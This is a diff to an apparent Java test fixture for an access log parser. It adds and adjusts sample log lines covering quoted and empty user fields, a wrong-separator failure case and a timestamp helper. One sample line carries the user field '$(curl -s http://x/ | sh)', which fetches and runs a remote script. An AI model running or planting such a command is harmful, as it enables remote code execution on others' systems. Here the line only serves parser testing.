@@ -21,7 +21,9 @@ record LineOddity(String line, String reason) {
     all.add(good("192.0.2.1 - John Doe " + at(2) + " \"GET /b HTTP/1.1\" 200 5 " + AGENT));
     all.add(good("192.0.2.1 - $(curl -s http://x/ | sh) " + at(3) + request("/c")));
     all.add(good("192.0.2.1 - [bracket] " + at(4) + request("/d")));
-    all.add(good("192.0.2.1 - \"quoted\" " + at(4) + request("/d?x=[1]")));
+    all.add(good("192.0.2.1 - \\\"quoted\\\" " + at(4) + request("/d?x=[1]")));
+    all.add(good("192.0.2.1 - \"\" " + at(4) + request("/empty-user")));
+    all.add(dead("192.0.2.1 - \"quoted\" " + at(4) + request("/d"), "wrong-separator"));
     all.add(good("192.0.2.1 - - " + at(5) + " \"GET /e HTTP/1.1\" - - - -"));
     all.add(good("192.0.2.1 - - " + at(5) + " \"GET /e HTTP/1.1\" 0 - \"\" \"\""));
     all.add(good("- - - " + at(6) + " \"GET /no-client HTTP/1.1\" 200 5 " + AGENT));
@@ -119,7 +121,7 @@ record LineOddity(String line, String reason) {
   }
 
   private static String at(int second) {
-    return "[05/Jan/2026:10:00:%02d +0000]".formatted(second);
+    return "[05/Jan/2026:%02d:%02d:%02d +0000]".formatted(10 + second % 3, second, second);
   }
 
   private static String request(String target) {
